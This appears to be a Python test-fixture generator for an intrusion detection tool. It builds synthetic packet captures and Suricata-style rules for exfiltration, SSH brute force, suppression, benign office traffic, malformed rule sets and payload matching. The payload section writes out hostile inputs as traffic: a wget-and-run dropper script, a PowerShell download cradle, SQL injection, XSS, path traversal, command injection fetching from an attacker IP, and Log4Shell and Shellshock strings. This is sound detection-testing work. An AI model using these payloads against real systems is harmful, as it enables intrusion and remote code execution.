                          "threshold)", "a 1.5 MB download and a 0.4 MB "
                          "upload")
    rng = random.Random(88)
    f = Tcp(hit, "192.168.10.70", "203.0.113.70", h.port("192.168.10.70"), 443)
    t = f.handshake(1.0)
    ch, _ = client_hello(rng, "upload.example", BASE_CIPHERS)
    t = f.data(t + 0.01, True, ch)
    sh, _ = server_hello(rng, 0x1301)
    t = f.data(t + 0.01, False, sh)
    t = bulk(f, t + 0.01, True, 830, rng)
    f.close(t + 0.1)
    det_alert(hit, "exfil", "192.168.10.70", "203.0.113.70",
              metadata={"flows": "1"})
    for who, srv, n, up in (("192.168.10.71", "203.0.113.71", 1000, False),
                            ("192.168.10.72", "203.0.113.72", 270, True)):
        f = Tcp(neg, who, srv, m.port(who), 443)
        t = f.handshake(1.0)
        ch, _ = client_hello(rng, "bulk.example", BASE_CIPHERS)
        t = f.data(t + 0.01, True, ch)
        sh, _ = server_hello(rng, 0x1301)
        t = f.data(t + 0.01, False, sh)
        t = bulk(f, t + 0.01, up, n, rng)
        f.close(t + 0.1)

    # bruteforce: 30 short SSH sessions from outside
    hit, neg, h, m = pair("bruteforce", 90, "30 short SSH sessions 5 s apart "
                          "(20 = the threshold)", "8 short sessions and one "
                          "long interactive session")
    for i in range(30):
        h.ssh(1.0 + 5.0 * i, "203.0.113.99", "192.168.10.22")
    det_alert(hit, "bruteforce", "203.0.113.99", "192.168.10.22",
              dest_port=22, metadata={"sessions": "20", "port": "22"})
    for i in range(8):
        m.ssh(1.0 + 5.0 * i, "203.0.113.99", "192.168.10.22")
    m.ssh(60.0, "203.0.113.98", "192.168.10.22", typing=30)
    return caps


# ---------------------------------------------------------------------------
# suppress.conf: rulesets/suppress_rules (rules + a list) and
# rulesets/suppress (suppress.conf only), loaded together

SUPPRESS_RULES = r"""# rules whose alerts rulesets/suppress/suppress.conf silences (or not)
alert dns any any -> any any (msg:"SUP whole sid"; dns.query; content:"sup-all"; sid:100601;)
alert dns any any -> any any (msg:"SUP by_src"; dns.query; content:"sup-src"; sid:100602;)
alert dns any any -> any any (msg:"SUP by_dst"; dns.query; content:"sup-dst"; sid:100603;)
alert dns any any -> any any (msg:"SUP never suppressed"; dns.query; content:"sup-none"; sid:100604;)
"""

SUPPRESS_IOC = "# suppressed for one host only\nsup-ioc.example,suppress test\n"

SUPPRESS_CONF = """# suppress.conf of the suppression test
# a whole rule
suppress gen_id 1, sig_id 100601
# one rule for one source
suppress gen_id 1, sig_id 100602, track by_src, ip 192.168.10.71
# one rule towards one destination (a list)
suppress gen_id 1, sig_id 100603, track by_dst, ip [192.168.10.1,192.168.10.3]
# indicator alerts (gid 9100) of one list and kind (sid 2287641 = domains
# of sup.txt, see rules/README.md) from one source network
suppress gen_id 9100, sig_id 2287641, track by_src, ip 192.168.10.73/32
# a detector (gid 9200, sid 1 = portscan), whoever scans
suppress gen_id 9200, sig_id 1
"""


def gen_suppress():
    cap = Cap("suppress.pcap", ["suppress_rules", "suppress"], t0=95 * DAY,
              note="suppress.conf silences whole sids, by_src, by_dst, an "
                   "indicator kind and a detector; the rest still alerts")
    n = Net(cap, 95)
    a, b = "192.168.10.71", "192.168.10.72"
    n.dns(1, a, "x.sup-all.example")                       # suppressed
    n.dns(2, b, "y.sup-all.example")                       # suppressed
    n.dns(3, a, "x.sup-src.example")                       # suppressed
    f = n.dns(4, b, "y.sup-src.example")
    cap.sig(f, 100602)
    n.dns(5, a, "x.sup-dst.example")                       # to .1: suppressed
    f = n.dns(6, a, "y.sup-dst.example", server="192.168.10.2")
    cap.sig(f, 100603)
    f = n.dns(7, a, "x.sup-none.example")
    cap.sig(f, 100604)
    n.dns(8, "192.168.10.73", "www.sup-ioc.example")       # suppressed
    f = n.dns(9, "192.168.10.74", "www.sup-ioc.example")
    cap.ioc(f, "domain", "sup-ioc.example", "sup.txt")
    for i in range(25):                                    # suppressed scan
        n.syn_only(20 + 0.1 * i, "192.168.10.75", "192.168.10.50", 2000 + i,
                   answer="rst")
    cap.extra["suppressed"] = 6
    return cap


SUPPRESS_DETECTORS = "[portscan]\nenabled = yes\nports = 20\nwindow = 60\n"


def unsuppressed_truth(cap):
    t = cap.truth()
    exp = list(cap.expect)
    srcs = [("192.168.10.71", "x.sup-all", 100601),
            ("192.168.10.72", "y.sup-all", 100601),
            ("192.168.10.71", "x.sup-src", 100602),
            ("192.168.10.71", "x.sup-dst", 100603)]
    for src, _, sid in srcs:
        exp.append({"engine": "signature", "sid": sid, "gid": 1,
                    "src_ip": src, "dest_ip": RESOLVER})
    exp.append({"engine": "ioc", "sid": 2, "gid": 9100,
                "src_ip": "192.168.10.73", "dest_ip": RESOLVER,
                "ioc": {"kind": "domain", "indicator": "sup-ioc.example",
                        "list": "sup.txt"}})
    exp.append({"engine": "detector", "sid": 1, "gid": 9200,
                "detector": "portscan", "src_ip": "192.168.10.75",
                "dest_ip": "192.168.10.50"})
    t.update({"file": "suppress.pcap",
              "rules": "tests/detect/rulesets/suppress_rules",
              "expect": exp, "count": len(exp), "expect_none": False,
              "suppressed": 0,
              "comment": "suppress.pcap without suppress.conf: the 6 "
                         "silenced alerts are back"})
    return t


# ---------------------------------------------------------------------------
# benign_office.pcap: an ordinary office; rules/default must stay silent

def gen_benign():
    cap = Cap("benign_office.pcap", "rules/default", t0=100 * DAY,
              note="DHCP, DNS, HTTPS to several CDNs (one browser with 30 "
                   "parallel connections), NTP every 64 s from a new port "
                   "each time (chrony), APT over HTTP, a long SSH session, "
                   "ping of the gateway: no alert from rules/default")
    n = Net(cap, 100)
    rng = n.rng
    gw = "192.168.10.1"
    # DHCP: a laptop joins
    mac = "02:00:5e:10:01:1a"
    from scapy.layers.dhcp import BOOTP, DHCP
    disc = Udp(cap, "0.0.0.0", "255.255.255.255", 68, 67)
    offer = Udp(cap, gw, "255.255.255.255", 67, 68)

    def bcast(ipb, to_server, flow):
        src = mac if flow is disc else "02:00:5e:10:01:01"
        return gf.pad60(gf.eth_header(src, "ff:ff:ff:ff:ff:ff", 0x0800) + ipb)
    disc.link = offer.link = bcast
    xid, ch = 0x5a5a1234, gf.mac_bytes(mac)
    opts = [("hostname", b"laptop-26"),
            ("param_req_list", [1, 3, 6, 15, 28, 42, 119])]
    srv = [("server_id", gw), ("lease_time", 86400),
           ("subnet_mask", "255.255.255.0"), ("router", gw),
           ("name_server", gw), ("domain", b"office.lan")]
    for t, kind, extra in ((0.5, "discover", []),
                           (0.55, "request",
                            [("requested_addr", "192.168.10.26"),
                             ("server_id", gw)])):
        disc.send(t, True, UDP(sport=68, dport=67) / BOOTP(
            op=1, xid=xid, chaddr=ch) / DHCP(options=[
                ("message-type", kind)] + extra + opts + ["end"]))
        offer.send(t + 0.002, True, UDP(sport=67, dport=68) / BOOTP(
            op=2, xid=xid, yiaddr="192.168.10.26", siaddr=gw, chaddr=ch) /
            DHCP(options=[("message-type", "offer" if kind == "discover"
                           else "ack")] + srv + ["end"]))
    laptop, desk, dev = "192.168.10.26", "192.168.10.27", "192.168.10.28"
    sites = [("www.wikipedia.org", "198.51.100.30"),
             ("fonts.gstatic.com", "203.0.113.140"),
             ("cdnjs.cloudflare.com", "203.0.113.141"),
             ("github.com", "198.51.100.40"),
             ("outlook.office365.com", "203.0.113.60"),
             ("www.debian.org", "198.51.100.50"),
             ("static.example-cdn.net", "198.51.100.70")]
    t = 2.0
    for k, (name, ip) in enumerate(sites):
        cli = (laptop, desk, dev)[k % 3]
        n.dns(t, cli, name, "A", answer={"A": [(name, "A", ip)]}.get("A"))
        n.dns(t + 0.001, cli, name, "AAAA", answer=[])
        n.tls(t + 0.05, cli, ip, name, app=2 + k % 3)
        t += 7.0 + rng.random() * 5
    # a browser opens 30 connections to one CDN host at once
    name, ip = sites[-1]
    n.dns(t, laptop, name)
    for i in range(30):
        n.tls(t + 0.05 + 0.01 * i, laptop, ip, name, app=1 + i % 3)
    t += 10
    # APT over HTTP
    n.dns(t, dev, "deb.debian.org")
    for path, size in (("/debian/dists/bookworm/InRelease", 9000),
                       ("/debian/dists/bookworm/main/binary-amd64/"
                        "Packages.xz", 30000)):
        n.http(t + 0.05, dev, "198.51.100.51", "deb.debian.org",
               ua=gf.UA_APT, path=path, size=size)
        t += 2
    # a long SSH session (an admin works on a server at a hosting company)
    n.dns(t, desk, "build.example.org")
    n.ssh(t + 0.05, desk, "198.51.100.22", typing=120)
    # ping of the gateway
    n.ping(t + 5, laptop, gw, count=4)
    # NTP: chrony polls every 64 s, each request from a new port
    for i in range(10):
        n.ntp(1.0 + 64.0 * i, dev, "198.51.100.123")
    return cap


# ---------------------------------------------------------------------------
# Broken rule sets for `vigil rules check` (and `vigil replay --rules`):
# dir -> {file: text}, and the "file:line: reason" lines expected

GOOD_RULE = ('alert dns any any -> any any (msg:"a good rule"; dns.query; '
             'content:"fine.example"; sid:1;)\n')

BAD_SETS = {
    "unknown_keyword": ({"bad.rules": "# an unsupported keyword\n" + GOOD_RULE +
                         'alert tcp any any -> any any (msg:"flowbits"; '
                         'flowbits:set,x; sid:2;)\n'},
                        ["bad.rules:3: unsupported keyword 'flowbits'"]),
    "missing_sid": ({"bad.rules": GOOD_RULE +
                     'alert tcp any any -> any any (msg:"no sid"; rev:1;)\n'},
                    ["bad.rules:2: missing sid"]),
    "bad_address": ({"bad.rules": GOOD_RULE +
                     'alert tcp 192.168.300.1 any -> any any (msg:"bad '
                     'address"; sid:3;)\n'
                     'alert tcp $HOMENET any -> any any (msg:"bad variable"; '
                     'sid:4;)\n'},
                    ["bad.rules:2: bad address '192.168.300.1'",
                     "bad.rules:3: unknown variable '$HOMENET'"]),
    "bad_pcre": ({"bad.rules": GOOD_RULE +
                  'alert http any any -> any any (msg:"bad pcre"; '
                  'http.host; pcre:"/(unclosed/"; sid:5;)\n'},
                 ["bad.rules:2: pcre:"]),
    "unknown_classtype": ({"bad.rules": GOOD_RULE +
                           'alert tcp any any -> any any (msg:"bad class"; '
                           'classtype:no-such-class; sid:6;)\n'},
                          ["bad.rules:2: unknown classtype 'no-such-class'"]),
    "duplicate_sid": ({"a.rules": GOOD_RULE +
                       'alert tcp any any -> any 22 (msg:"first"; sid:7;)\n',
                       "b.rules": "# the same sid again\n"
                       'alert tcp any any -> any 23 (msg:"second"; sid:7;)\n'},
                      ["b.rules:2: duplicate sid 7"]),
    "bad_classification": ({"classification.config":
                             "config classification: ok-class,Fine,2\n"
                             "config classification: broken\n",
                             "ok.rules": GOOD_RULE},
                            ["classification.config:2: bad classification"]),
    "bad_ioc": ({"ioc/list.txt": "# indicators\nbad-ok.example\n"
                 "not_a_domain!\n203.0.113.5/24\n",
                 "ioc/feodo.csv": '# "first_seen_utc","dst_ip","dst_port",'
                 '"c2_status","last_online","malware"\n'
                 '"2023-11-02 10:11:12","203.0.113.31","443","online",'
                 '"2023-12-31","Dridex"\n'
                 '"2023-11-02 10:11:12","203.0.113.999","443","online",'
                 '"2023-12-31","Dridex"\n'},
                ["list.txt:3: not an indicator", "list.txt:4: host bits set",
                 "feodo.csv:3: not a valid IP address"]),
    "bad_detectors": ({"detectors.conf": "[portscan]\nports = 20\n"
                       "bogus_key = 1\n[hostsweep]\nhosts = many\n"
                       "[nosuch]\n"},
                      ["detectors.conf:3: unknown setting 'bogus_key'",
                       "detectors.conf:5: bad value 'many'",
                       "detectors.conf:6: unknown detector 'nosuch'"]),
    "bad_suppress": ({"suppress.conf": "# typos\n"
                      "supress gen_id 1, sig_id 2\n"
                      "suppress gen_id 1, sig_id x\n"
                      "suppress gen_id 1, sig_id 3, track by_src\n",
                      "ok.rules": GOOD_RULE},
                     ["suppress.conf:2: unsupported directive 'supress'",
                      "suppress.conf:3: bad sig_id 'x'",
                      "suppress.conf:4: track needs an ip"]),
}


# ---------------------------------------------------------------------------
# The payload window: rulesets/sig/payload.rules (every payload keyword)
# and etlike.rules (rules written the way ET Open writes them for these
# cases), and the default set's file-delivery, web-attack and check-in
# rules (rules/default) on captures of their own.

def pe_file(rng, size=6000, dll=False, pe64=False):
    """A Windows PE file's first bytes: MZ header, e_lfanew, PE header."""
    b = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
    b += b"\x00" * (0x3c - len(b)) + struct.pack("<I", 0x80)
    b += b"\x00" * (0x40 - len(b)) + b"This program cannot be run in DOS mode.\r\r\n$"
    b += b"\x00" * (0x80 - len(b))
    b += b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664 if pe64 else 0x14c, 3, 0, 0, 0,
                                     0xf0 if pe64 else 0xe0,
                                     0x2102 if dll else 0x0102)
    b += struct.pack("<H", 0x20b if pe64 else 0x10b)
    b += rb(rng, size - len(b))
    return bytes(b)


def elf_file(rng, size=3000):
    return b"\x7fELF\x01\x01\x01\x00" + b"\x00" * 8 + \
        struct.pack("<HHI", 2, 3, 1) + rb(rng, size - 24)


def http_rsp(body, ctype="application/octet-stream", status="200 OK",
             extra=""):
    return ("HTTP/1.1 %s\r\nServer: nginx\r\nContent-Type: %s\r\n"
            "Content-Length: %d\r\n%sConnection: close\r\n\r\n"
            % (status, ctype, len(body), extra)).encode() + body


def http_req(host, path, method="GET", ua=gf.UA_FIREFOX, body=b"",
             version="1.1"):
    hdr = "%s %s HTTP/%s\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n" % (
        method, path, version, host, ua)
    if body:
        hdr += "Content-Type: application/x-www-form-urlencoded\r\n" \
               "Content-Length: %d\r\n" % len(body)
    return (hdr + "\r\n").encode() + body


def web(n, t, cli, srv, host, path, rsp, sport=80, method="GET",
        ua=gf.UA_FIREFOX, body=b"", close=True):
    """One HTTP exchange on its own connection."""
    return n.tcp(t, cli, srv, sport,
                 [(True, http_req(host, path, method, ua, body)),
                  (False, rsp)], close=close)


SIG_RULES["payload.rules"] = r"""# The payload window: HTTP buffers, pkt_data, file.data, filemagic,
# relative content, isdataat, pcre R and the window's limit
alert http any any -> 198.18.140.0/24 any (msg:"PAY http.uri normalised"; http.uri; content:"/admin/config.php"; startswith; sid:100601;)
alert http any any -> 198.18.141.0/24 any (msg:"PAY http.uri.raw"; http.uri.raw; content:"%2e%2e/"; nocase; sid:100602;)
alert http any any -> 198.18.142.0/24 any (msg:"PAY http.method with bsize"; http.method; content:"PUT"; bsize:3; sid:100603;)
alert http 198.18.143.0/24 any -> any any (msg:"PAY http.stat_code, a to_client rule written from the server's side"; flow:to_client; http.stat_code; content:"404"; sid:100604;)
alert http any any -> 198.18.144.0/24 any (msg:"PAY http.content_type"; http.content_type; content:"application/x-msdownload"; sid:100605;)
alert http any any -> 198.18.145.0/24 any (msg:"PAY http.request_line"; http.request_line; content:"POST /upload.php HTTP/1.0"; bsize:25; sid:100606;)
alert tcp any any -> 198.18.146.0/24 9100 (msg:"PAY pkt_data distance within"; flow:to_server; content:"VGL1"; depth:4; content:"CMD="; distance:4; within:8; sid:100607;)
alert tcp any any -> 198.18.147.0/24 9101 (msg:"PAY isdataat relative"; flow:to_server; content:"HDR|00|"; depth:4; isdataat:!8,relative; sid:100608;)
alert tcp any any -> 198.18.148.0/24 9102 (msg:"PAY pcre relative"; flow:to_server; content:"user="; pcre:"/^[a-z]{3}\d{2}&/R"; sid:100609;)
alert http 198.18.149.0/24 any -> $HOME_NET any (msg:"PAY file.data MZ PE"; flow:established,to_client; file.data; content:"MZ"; within:2; content:"PE|00 00|"; distance:0; sid:100610;)
alert tcp 198.18.150.0/24 any -> $HOME_NET any (msg:"PAY filemagic ELF over plain TCP"; flow:to_client; filemagic:"ELF 32-bit"; sid:100611;)
alert http any any -> 198.18.151.0/24 any (msg:"PAY filemagic PDF in an HTTP body"; filemagic:"PDF document"; sid:100612;)
alert tcp 198.18.152.0/24 9103 -> any any (msg:"PAY window limit"; flow:to_client; content:"DEEPTOKEN"; sid:100613;)
alert tcp any any -> 198.18.153.0/24 9104 (msg:"PAY nocase hex"; content:"|de ad|BEEF"; nocase; sid:100614;)
alert http any any -> 198.18.154.0/24 any (msg:"PAY legacy http_uri modifier"; content:"/cgi-bin/"; http_uri; content:".sh"; http_uri; distance:0; sid:100615;)
alert http any any -> 198.18.155.0/24 any (msg:"PAY pcre U flag"; pcre:"/\.php\?id=\d+$/U"; sid:100616;)
alert tcp 198.18.156.0/24 9105 -> any any (msg:"PAY full window still decides"; flow:to_client; content:"STREAMHEAD"; depth:10; sid:100617;)
"""

SIG_RULES["etlike.rules"] = r"""# Rules written the way ET Open writes them for these cases (own text,
# Suricata syntax, loaded as they are)
alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ETLIKE POLICY PE EXE or DLL Windows file download HTTP"; flow:established,to_client; http.stat_code; content:"200"; file.data; content:"MZ"; within:2; content:"PE|00 00|"; distance:0; classtype:policy-violation; sid:100701; rev:1;)
alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ETLIKE WEB_SERVER Possible SQL Injection Attempt UNION SELECT"; flow:established,to_server; content:"UNION"; nocase; http_uri; content:"SELECT"; nocase; http_uri; distance:0; pcre:"/UNION\s+SELECT/Ui"; classtype:web-application-attack; sid:100702; rev:1;)
alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ETLIKE WEB_SERVER Possible SQL Injection Attempt SELECT FROM"; flow:established,to_server; http.uri; content:"SELECT"; nocase; content:"FROM"; nocase; distance:0; pcre:"/SELECT\b.+\bFROM/i"; classtype:web-application-attack; sid:100703; rev:1;)
alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ETLIKE INFO Executable Retrieved With Minimal HTTP Headers From Dotted Quad"; flow:established,to_server; http.uri; content:".exe"; nocase; endswith; http.host; pcre:"/^(?:\d{1,3}\.){3}\d{1,3}(:\d+)?$/"; classtype:bad-unknown; sid:100704; rev:1;)
"""

PAYLOAD_HOME = "192.168.10.0/24"


def gen_sig_payload():
    hit = Cap("sig_payload.pcap", "sig", t0=20 * DAY,
              note="payload window: every HTTP buffer, pkt_data with "
                   "distance/within, isdataat, pcre R, file.data, filemagic "
                   "in HTTP and plain TCP, nocase hex, legacy modifiers, "
                   "ET-style rules; a full window decides before the flow "
                   "ends")
    neg = Cap("sig_payload_neg.pcap", "sig", t0=21 * DAY,
              note="near misses of every payload rule, and a token just "
                   "past the 2 KiB window")
    h, m = Net(hit, 601), Net(neg, 602)
    rng = h.rng
    t = [0.0]

    def T():
        t[0] += 1.0
        return t[0]
    ok = http_rsp(b"<html>ok</html>\n", "text/html")
    # 100601: the normalised URI
    f = web(h, T(), CLI, "198.18.140.5", "a.example", "/static/../admin/%63onfig.php?x=1", ok)
    hit.sig(f, 100601)
    web(m, T(), CLI, "198.18.140.5", "a.example", "/admin/config.phtml.bak/../x", ok)
    # 100602: the raw URI
    f = web(h, T(), CLI, "198.18.141.5", "a.example", "/files/%2E%2E/secret", ok)
    hit.sig(f, 100602)
    web(m, T(), CLI, "198.18.141.5", "a.example", "/files/../secret", ok)
    # 100603: method
    f = web(h, T(), CLI, "198.18.142.5", "a.example", "/dav/x", ok, method="PUT", body=b"x=1")
    hit.sig(f, 100603)
    web(m, T(), CLI, "198.18.142.5", "a.example", "/dav/x", ok, method="PUTX", body=b"x=1")
    # 100604: status code; a to_client rule names the server first (the
    # alert keeps the flow's orientation: src is the client)
    f = web(h, T(), CLI, "198.18.143.5", "a.example", "/gone", http_rsp(b"nf", "text/plain", "404 Not Found"))
    hit.sig(f, 100604)
    web(m, T(), CLI, "198.18.143.5", "a.example", "/here", ok)
    # 100605: content type
    f = web(h, T(), CLI, "198.18.144.5", "a.example", "/t.bin",
            http_rsp(rb(rng, 300), "application/x-msdownload"))
    hit.sig(f, 100605)
    web(m, T(), CLI, "198.18.144.5", "a.example", "/t.bin", http_rsp(rb(rng, 300)))
    # 100606: request line
    f2 = h.tcp(T(), CLI, "198.18.145.5", 80,
               [(True, http_req("a.example", "/upload.php", "POST", body=b"a=b", version="1.0")),
                (False, ok)])
    hit.sig(f2, 100606)
    m.tcp(T(), CLI, "198.18.145.5", 80,
          [(True, http_req("a.example", "/upload.php5", "POST", body=b"a=b", version="1.0")),
           (False, ok)])
    # 100607: pkt_data, relative content
    f = h.tcp(T(), CLI, "198.18.146.5", 9100, [(True, b"VGL1\x00\x01\x02\x03CMD=run\n"),
                                              (False, b"OK\n")])
    hit.sig(f, 100607)
    m.tcp(T(), CLI, "198.18.146.5", 9100, [(True, b"VGL1\x00\x01\x02\x03ABCDEFGHCMD=run\n"),
                                          (False, b"OK\n")])
    m.tcp(T(), CLI, "198.18.146.5", 9100, [(True, b"XVGL1\x00\x01\x02\x03ACMD=run\n"),
                                          (False, b"OK\n")])
    # 100608: isdataat
    f = h.tcp(T(), CLI, "198.18.147.5", 9101, [(True, b"HDR\x00short"), (False, b"OK\n")])
    hit.sig(f, 100608)
    m.tcp(T(), CLI, "198.18.147.5", 9101, [(True, b"HDR\x00muchlonger"), (False, b"OK\n")])
    # 100609: pcre R
    f = h.tcp(T(), CLI, "198.18.148.5", 9102, [(True, b"login user=bob42&pw=x"), (False, b"OK\n")])
    hit.sig(f, 100609)
    m.tcp(T(), CLI, "198.18.148.5", 9102, [(True, b"login user=bobby42&pw=x"), (False, b"OK\n")])
    # 100610 + 100701 (ET-style): a Windows PE over HTTP
    f = web(h, T(), CLI, "198.18.149.5", "dl.example", "/setup.exe",
            http_rsp(pe_file(rng)))
    hit.sig(f, 100610)
    hit.sig(f, 100701)
    web(m, T(), CLI, "198.18.149.5", "dl.example", "/readme.txt",
        http_rsp(b"MZ is not a PE header, " + rb(rng, 400), "text/plain"))
    # 100611: ELF straight over TCP
    f = h.tcp(T(), CLI, "198.18.150.5", 4444, [(True, b"x86\n"), (False, elf_file(rng))])
    hit.sig(f, 100611)
    m.tcp(T(), CLI, "198.18.150.5", 4444, [(True, b"x86\n"), (False, rb(rng, 3000))])
    # 100612: PDF in an HTTP body
    f = web(h, T(), CLI, "198.18.151.5", "a.example", "/doc",
            http_rsp(b"%PDF-1.7\n" + rb(rng, 800), "application/pdf"))
    hit.sig(f, 100612)
    web(m, T(), CLI, "198.18.151.5", "a.example", "/doc",
        http_rsp(b"<p>%PDF-1.7</p>" + rb(rng, 800), "text/html"))
    # 100613: the window's limit (2 KiB per direction)
    near = b"x" * 1500 + b"DEEPTOKEN" + b"y" * 3000
    far = b"x" * 2100 + b"DEEPTOKEN" + b"y" * 3000
    f = h.tcp(T(), CLI, "198.18.152.5", 9103, [(True, b"GIVE\n"), (False, near)])
    hit.sig(f, 100613)
    m.tcp(T(), CLI, "198.18.152.5", 9103, [(True, b"GIVE\n"), (False, far)])
    # 100614: nocase and hex bytes
    f = h.tcp(T(), CLI, "198.18.153.5", 9104, [(True, b"\xde\xadbeef!"), (False, b"OK\n")])
    hit.sig(f, 100614)
    m.tcp(T(), CLI, "198.18.153.5", 9104, [(True, b"\xde\xacbeef!"), (False, b"OK\n")])
    # 100615: legacy modifiers
    f = web(h, T(), CLI, "198.18.154.5", "a.example", "/cgi-bin/status.sh", ok)
    hit.sig(f, 100615)
    web(m, T(), CLI, "198.18.154.5", "a.example", "/cgi.sh/cgi-bin/", ok)
    # 100616: pcre /U
    f = web(h, T(), CLI, "198.18.155.5", "a.example", "/item.php?id=42", ok)
    hit.sig(f, 100616)
    web(m, T(), CLI, "198.18.155.5", "a.example", "/item.php?id=42&x", ok)
    # 100617: a stream that fills its window decides then, not at its end
    # (the connection stays open for an hour of packet time)
    t0 = T()
    f = h.tcp(t0, CLI, "198.18.156.5", 9105,
              [(True, b"START\n"), (False, b"STREAMHEAD" + rb(rng, 5000))], close=False)
    f.data(t0 + 3600, False, b"tail")
    hit.sig(f, 100617, max_ts=hit.t0_us / 1e6 + t0 + 60)
    m.tcp(T(), CLI, "198.18.156.5", 9105,
          [(True, b"START\n"), (False, b"xSTREAMHEAD" + rb(rng, 5000))])
    return [hit, neg]


def gen_sig_etlike():
    """ET-style rules on inbound web attacks and dotted-quad downloads
    (home network: the 192.168.10.0/24 office)."""
    hit = Cap("sig_etlike.pcap", "sig", t0=22 * DAY,
              note="ET-style rules: SQL injection in URIs (legacy and "
                   "sticky forms), executable from a dotted quad")
    neg = Cap("sig_etlike_neg.pcap", "sig", t0=23 * DAY,
              note="near misses of the ET-style rules")
    h, m = Net(hit, 701), Net(neg, 702)
    t = [0.0]

    def T():
        t[0] += 1.0
        return t[0]
    ok = http_rsp(b"<html>ok</html>\n", "text/html")
    srv, atk = "192.168.10.80", "198.51.100.66"
    f = web(h, T(), atk, srv, "intranet.example", "/news.php?id=1%20UNION%20SELECT%20user,pass%20FROM%20users", ok)
    hit.sig(f, 100702)
    hit.sig(f, 100703)
    web(m, T(), atk, srv, "intranet.example", "/news.php?title=union-select-guide", ok)
    web(m, T(), srv, atk, "outside.example", "/news.php?id=1%20UNION%20SELECT%20x", ok)
    f = web(h, T(), CLI, "198.51.100.67", "198.51.100.67", "/a/stage2.EXE", http_rsp(b"x" * 100))
    hit.sig(f, 100704)
    web(m, T(), CLI, "198.51.100.67", "files.example", "/a/stage2.exe", http_rsp(b"x" * 100))
    return [hit, neg]


def gen_default_payload():
    """rules/default's payload rules, one flow each, and their near misses."""
    hit = Cap("default_payload.pcap", "rules/default", t0=30 * DAY,
              note="rules/default: executables and scripts over clear-text "
                   "HTTP with severity by context, web attacks on a home "
                   "server, clear-text check-ins")
    neg = Cap("default_payload_neg.pcap", "rules/default", t0=31 * DAY,
              note="rules/default near misses: the same files over HTTPS-"
                   "like opaque TCP or from update hosts, harmless URIs, "
                   "outbound requests that look like attacks")
    h, m = Net(hit, 801), Net(neg, 802)
    rng = h.rng
    t = [0.0]

    def T():
        t[0] += 1.0
        return t[0]
    ok = http_rsp(b"<html>ok</html>\n", "text/html")
    pc, srv = "192.168.10.31", "192.168.10.80"
    ip1, ip2 = "203.0.113.50", "203.0.113.51"

    def sig(f, sid, sev, cap=hit, **kw):
        return cap.sig(f, sid, severity=sev, **kw)

    def sig_rev(f, sid, sev, cap=hit):
        # to_client rules: the alert keeps the flow's orientation
        return cap.sig(f, sid, severity=sev)
    # executables
    f = web(h, T(), pc, ip1, ip1, "/x/inv.exe", http_rsp(pe_file(rng)))
    sig(f, 2100060, 1)
    f = web(h, T(), pc, ip2, "cdn.badfiles.example:8888", "/u.bin",
            http_rsp(pe_file(rng, dll=True)), sport=8888)
    sig(f, 2100061, 1)
    f = web(h, T(), pc, ip2, "tools.example.org", "/putty.exe",
            http_rsp(pe_file(rng, pe64=True)))
    sig(f, 2100062, 3)
    f = web(h, T(), pc, ip2, "img.example.org", "/logo.png",
            http_rsp(pe_file(rng), "image/png"))
    sig(f, 2100062, 3)
    sig(f, 2100063, 1)
    sig(f, 2100084, 2)
    f = web(h, T(), pc, ip2, "shop.example.org", "/wp-content/uploads/2024/Q8x/",
            http_rsp(pe_file(rng), "application/octet-stream",
                     extra="Content-Disposition: attachment; filename=\"inv.exe\"\r\n"))
    sig(f, 2100062, 3)
    sig(f, 2100084, 2)
    f = web(h, T(), pc, ip1, ip1, "/bins/mips", http_rsp(elf_file(rng)))
    sig(f, 2100064, 1)
    f = web(h, T(), pc, ip2, "mirror.example.org", "/tool", http_rsp(elf_file(rng)))
    sig(f, 2100065, 2)
    f = web(h, T(), pc, ip1, ip1, "/i.sh",
            http_rsp(b"#!/bin/sh\ncd /tmp; wget http://203.0.113.50/bins/mips; chmod +x mips; ./mips\n",
                     "text/plain"))
    sig(f, 2100066, 1)
    f = web(h, T(), pc, ip2, "cdn.example.org", "/update.ps1",
            http_rsp(b"$ErrorActionPreference = 'SilentlyContinue'\r\nIEX (New-Object Net.WebClient)"
                     b".DownloadString('http://x/y')\r\n", "text/plain"))
    sig(f, 2100067, 2)
    f = web(h, T(), pc, ip1, ip1, "/invoice.pdf",
            http_rsp(b"%PDF-1.5\n" + rb(rng, 1200), "application/pdf"))
    sig(f, 2100068, 2)
    f = h.tcp(T(), pc, ip1, 4444, [(True, b"\x00\x00\x00\x01"), (False, pe_file(rng))])
    sig(f, 2100069, 2)
    # web attacks on the home server
    atk = "198.51.100.99"
    f = web(h, T(), atk, srv, "www.office.example", "/news.php?id=-1%20UNION%20ALL%20SELECT%201,2,3--", ok)
    sig(f, 2100070, 2)
    f = web(h, T(), atk, srv, "www.office.example", "/login.php?user=admin%27%20OR%20%271%27=%271", ok)
    sig(f, 2100071, 2)
    f = web(h, T(), atk, srv, "www.office.example", "/item?id=1%20AND%20SLEEP(5)", ok)
    sig(f, 2100072, 2)
    f = web(h, T(), atk, srv, "www.office.example", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ok)
    sig(f, 2100073, 2)
    f = web(h, T(), atk, srv, "www.office.example", "/download?file=..%2f..%2f..%2fboot.cfg", ok)
    sig(f, 2100074, 2)
    f = web(h, T(), atk, srv, "www.office.example", "/cgi-bin/view?f=/etc/passwd", ok)
    sig(f, 2100075, 2)
    f = web(h, T(), atk, srv, "www.office.example", "/ping.php?host=1.1.1.1;wget%20http://198.51.100.99/x", ok)
    sig(f, 2100076, 2)
    f = web(h, T(), atk, srv, "www.office.example", "/?x=${jndi:ldap://198.51.100.99/a}", ok)
    sig(f, 2100077, 1)
    f = web(h, T(), atk, srv, "www.office.example", "/", ok,
            ua="${${lower:j}ndi:ldap://198.51.100.99/a}")
    sig(f, 2100078, 1)
    sig(f, 2100047, 1)     # nDPI: Possible Exploit Detected (Log4J)
    sig(f, 2100051, 3)     # nDPI: HTTP Suspicious User-Agent
    f = web(h, T(), atk, srv, "www.office.example", "/cgi-bin/status", ok,
            ua="() { :;}; /bin/bash -c 'id'")
    sig(f, 2100079, 2)
    sig(f, 2100051, 3)
    # check-ins
    f = web(h, T(), pc, ip1, ip1 + ":8443", "/gate.php", ok, sport=8443, method="POST",
            body=b"id=4f2a&os=win10&av=none")
